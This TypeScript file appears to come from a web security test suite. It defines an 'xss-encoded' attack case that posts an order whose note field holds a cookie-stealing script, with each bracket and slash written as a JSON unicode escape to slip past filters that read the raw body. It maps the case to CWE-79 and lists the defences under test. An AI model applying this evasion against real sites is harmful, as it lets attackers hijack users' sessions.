import type { Attack } from "../attack.ts";
import { receiptTwin } from "./shared/receipt.ts";
import { cookieThief, order, post } from "./shared/requests.ts";
import { storedScript } from "./shared/stored-script.ts";

export const xssEncoded: Attack = {
  id: "xss-encoded",
  title: "Store a script whose every bracket is an escape of JSON, past who reads the body as it was sent",
  owasp: ["SAS-7", "CWE-79"],
  paper: "IV.1.D",
  defences: ["edge:script", "edge:patterns", "function:html-encoding", "function:content-security-policy"],
  operation: "getReceipt",
  target: "receipt",
  needs: "browser",
  run: (context) =>
    storedScript(context, (token) => {
      const body = JSON.stringify({ ...order(), note: cookieThief(context.sink.url, token) });
      return post(context, "alice", "/orders", body.replace(/[<>/]/g, escaped));
    }),
  twin: (context) => receiptTwin(context, "carol", {}, context.seed.acme.note),
};

/** The character as `\u003c` and its like. */
function escaped(character: string): string {
  return `\\u${character.charCodeAt(0).toString(16).padStart(4, "0")}`;
}
